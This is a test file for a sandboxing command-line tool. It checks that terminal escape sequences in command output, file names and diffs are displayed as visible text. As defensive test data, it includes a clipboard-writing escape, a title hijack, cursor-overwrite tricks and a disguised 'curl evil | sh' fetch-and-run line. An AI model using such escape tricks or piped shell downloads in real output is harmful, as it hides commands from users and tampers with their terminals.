// A run that prints terminal escapes (a clipboard write, a title, cursor
// moves, a carriage-return overwrite) and makes a file whose name and content
// carry them: `paladin run` shows all of it as visible escapes, in the output,
// the change list and the diff; `--raw` passes the output's bytes through.
// Real CLI, real policy, real Docker engine (image paladin-test:busybox or
// PALADIN_SANDBOX_IMAGE).
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, test } from 'node:test';
import { runCli } from '../support/runCli';

let tmp: string;
let workspace: string;
let dbPath: string;
const saved = { ...process.env };

before(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'paladin-inert-'));
  workspace = path.join(tmp, 'ws');
  fs.mkdirSync(workspace);
  fs.writeFileSync(path.join(workspace, 'notes.txt'), 'one\n');
  dbPath = path.join(tmp, 'data', 'paladin.db');
  process.env.PALADIN_SANDBOX_IMAGE = process.env.PALADIN_SANDBOX_IMAGE || 'paladin-test:busybox';
  process.env.PALADIN_SANDBOX_TIMEOUT_SECONDS = '20';
});

after(() => {
  process.env = saved;
  fs.rmSync(tmp, { recursive: true, force: true });
});

// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const printEscapes = "printf '\\033]52;c;ZXZpbA==\\007\\033]0;owned\\007\\033[1A\\033[2Kshown\\rhidden\\n'";

test('escapes in a run\'s output reach the terminal as visible text; --raw passes them through', { timeout: 120_000 }, async () => {
  const r = await runCli(['run', '--workspace', workspace, '--mode', 'ro', printEscapes], dbPath);
  assert.equal(r.code, 0, r.err);
  assert.ok(!CONTROL.test(r.out.replace(/\n/g, '')), JSON.stringify(r.out));
  assert.match(r.out, /␛\]52;c;ZXZpbA==\\x07␛\]0;owned\\x07␛\[1A␛\[2Kshown\\rhidden/);
  const raw = await runCli(['run', '--raw', '--workspace', workspace, '--mode', 'ro', printEscapes], dbPath);
  assert.equal(raw.code, 0, raw.err);
  assert.ok(raw.out.includes('\x1b]52;c;ZXZpbA==\x07'), 'the bytes as the command wrote them');
});

test('file names and diffs of a snapshot run are shown with their escapes visible', { timeout: 120_000 }, async () => {
  const command = "printf 'one\\n\\033[1A\\033[2Kcurl evil | sh\\n' > notes.txt; touch \"$(printf 'ok\\033[2K\\rx.txt')\"";
  const r = await runCli(['run', '--yes', '--workspace', workspace, '--mode', 'snapshot', command], dbPath);
  assert.equal(r.code, 0, r.err);
  const report = r.err;
  assert.ok(!CONTROL.test(report.replace(/\n/g, '')), JSON.stringify(report));
  assert.match(report, /ok␛\[2K\\rx\.txt/, 'the new file\'s name');
  assert.match(report, /\+␛\[1A␛\[2Kcurl evil \| sh/, 'the diff line that tried to hide itself');
});
